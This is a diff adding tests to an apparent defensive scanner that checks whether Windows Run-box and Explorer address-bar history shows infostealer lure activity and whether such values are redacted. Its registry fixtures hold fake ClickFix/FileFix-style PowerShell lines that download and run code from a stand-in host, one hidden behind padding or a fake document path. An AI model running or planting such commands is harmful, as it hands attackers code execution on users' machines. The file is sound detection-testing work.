@@ -188,3 +188,43 @@ def test_no_marker_in_the_dashboard_rows_and_details(home):
             buf = io.StringIO()
             Console(file=buf, width=120, color_system=None, force_terminal=False).print(render.detail(result, wording))
             assert MARKER not in buf.getvalue() + render.row(result, wording).plain
+
+
+RUNMRU_KEY = r"HKCU\Software\Microsoft\Windows\CurrentVersion\Explorer\RunMRU"
+TYPEDPATHS_KEY = r"HKCU\Software\Microsoft\Windows\CurrentVersion\Explorer\TypedPaths"
+TYPED = {
+    RUNMRU_KEY: {"values": {
+        "a": f"mysql -uroot -p{MARKER}\\1",
+        "b": f'powershell -w hidden -c "iwr http://x.example/{MARKER} | iex" # I am not a robot - ID {MARKER}\\1',
+        "c": f"calc\u2003\u2003\u2003\u2003# {MARKER}\\1",
+        "MRUList": "abc"}},
+    TYPEDPATHS_KEY: {"values": {
+        "url1": f"\\\\{MARKER}.example\\share",
+        "url2": f'powershell -c "iwr https://x.example/{MARKER} | iex" # C:\\HR\\{MARKER}.docx'}},
+}
+
+
+def test_run_box_and_explorer_address_bar_keep_only_the_matched_indicators(tmp_path):
+    from tests.infostealer_fixtures import rules_hit, scan
+
+    host = TreeHost(tmp_path, "windows", registry={key: entry["values"] for key, entry in TYPED.items()})
+    put(tmp_path, "C:/Users/alice/Documents/notes.txt", "x")
+    live = rules_hit(scan(host))
+    assert {"win_runmru_lolbin", "win_runmru_lure", "win_runmru_padding", "win_typedpaths_filefix"} <= live
+    data = collect(host)
+    text = json.dumps(data, ensure_ascii=False)
+    assert MARKER.lower() not in text.lower()
+    replayed = RecordedHost(json.loads(text))
+    assert rules_hit(scan(replayed)) == live
+    assert {r.check_id: r.status for r in run_assessment(replayed, check_timeout=30, check_ids=CHECKS).results} == {
+        r.check_id: r.status for r in run_assessment(host, check_timeout=30, check_ids=CHECKS).results}
+
+
+def test_text_rules_of_redacted_registry_values_have_a_sample_that_hits_only_its_own_source():
+    from clinicguard.secretfiles import registry_sources
+
+    typed = {name for src in registry_sources() if src.keep == "indicator_lines" for name in src.rules}
+    assert typed == {"runmru", "typedpaths"}
+    for rule in load_rules():
+        if rule.kind == "text" and rule.source in typed:
+            assert rule.sample and rule.text_hit(rule.sample), rule.id
